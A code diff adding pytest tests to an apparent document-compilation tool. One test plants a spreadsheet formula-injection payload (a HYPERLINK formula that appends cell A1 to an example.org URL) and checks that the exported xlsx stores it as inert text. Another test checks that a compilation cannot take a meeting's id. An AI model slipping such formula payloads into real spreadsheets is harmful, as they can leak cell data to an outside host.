@@ -378,3 +378,30 @@ def test_a_footnote_in_a_compiled_recommendation(content: Path, tmp_path: Path) 
     assert "online safety in school curricula" in row["text"]
     report = (out / "reports" / "cybercrime-2020.en.html").read_text(encoding="utf-8")
     assert 'class="footnote"' in report and "A note." in report
+
+
+def test_no_live_formula_in_the_workbook(content: Path, tmp_path: Path) -> None:
+    path = content / "meetings" / "cybercrime-2020" / "en" / "recommendations.yaml"
+    old = "text: Member States should include online safety in school curricula;"
+    new = 'text: \'=HYPERLINK("http://example.org/?"&A1,"Click")\''
+    text = path.read_text(encoding="utf-8")
+    assert text.count(old) == 1
+    path.write_text(text.replace(old, new), encoding="utf-8")
+    out = tmp_path / "build"
+    assert cli.build(content, out, compilations=[STOCKTAKING], formats=["xlsx"]) == 0
+    workbook = openpyxl.load_workbook(out / "compilations" / f"{STOCKTAKING}.xlsx")
+    cells = [c for row in workbook.active.iter_rows() for c in row if c.value]
+    formula = [c for c in cells if str(c.value).startswith("=HYPERLINK")]
+    assert formula and all(c.data_type == "s" for c in formula)
+
+
+def test_a_compilation_may_not_take_a_meetings_id(content: Path, run_check: CheckRun) -> None:
+    shutil.copytree(
+        content / "compilations" / STOCKTAKING, content / "compilations" / "cybercrime-2019"
+    )
+    status, lines = run_check(content)
+    assert status == 2
+    assert (
+        "<root>/compilations/cybercrime-2019:1:1: compilation 'cybercrime-2019' has the id "
+        "of a meeting; their redlines would be one file"
+    ) in lines
